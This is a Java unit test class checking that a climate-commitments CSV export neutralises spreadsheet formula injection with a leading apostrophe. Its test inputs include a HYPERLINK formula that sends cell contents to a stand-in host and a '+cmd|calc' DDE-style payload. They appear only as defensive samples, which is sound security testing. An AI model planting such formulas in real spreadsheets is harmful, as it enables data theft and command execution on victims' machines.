package eu.agora.commitments;

import java.io.IOException;
import java.io.StringReader;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.util.List;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.json.JsonMapper;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * A CSV export is safe to open in a spreadsheet: text cells that would start a formula
 * are neutralised with a leading apostrophe (OWASP), numbers stay numbers.
 */
class CsvExportSafetyTests {

	private final CommitmentExport export = new CommitmentExport(new InMemoryCityDirectory(),
			new InMemoryPeople().officer("P-1", "Ola", "lodz"), JsonMapper.builder().build());

	@ParameterizedTest
	@ValueSource(strings = { "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")", "+cmd|calc", "-2+3", "@SUM(1+1)",
			"\tTabbed", "\rReturned" })
	void aTextCellThatWouldStartAFormulaGetsALeadingApostrophe(String title) throws IOException {
		CSVRecord row = exported(CommitmentTestData.aCommitment().titled(title).build());

		assertThat(row.get("Action title")).isEqualTo("'" + title);
	}

	@Test
	void ordinaryTextAndNumbersAreWrittenAsTheyAre() throws IOException {
		CSVRecord row = exported(CommitmentTestData.aCommitment()
			.titled("Heat pumps = warm schools")
			.targeting(new Quantity(new BigDecimal("-40"), "% CO2e", 2030))
			.withProgress(35)
			.build());

		assertThat(row.get("Action title")).isEqualTo("Heat pumps = warm schools");
		assertThat(row.get("Target value")).isEqualTo("-40");
		assertThat(row.get("Target year")).isEqualTo("2030");
		assertThat(row.get("Progress (%)")).isEqualTo("35");
	}

	private CSVRecord exported(Commitment commitment) throws IOException {
		String csv = new String(export.csv(List.of(commitment)).content(), StandardCharsets.UTF_8);
		List<CSVRecord> rows = CSVFormat.RFC4180.builder()
			.setHeader()
			.setSkipHeaderRecord(true)
			.get()
			.parse(new StringReader(csv))
			.getRecords();
		assertThat(rows).hasSize(1);
		return rows.get(0);
	}

}
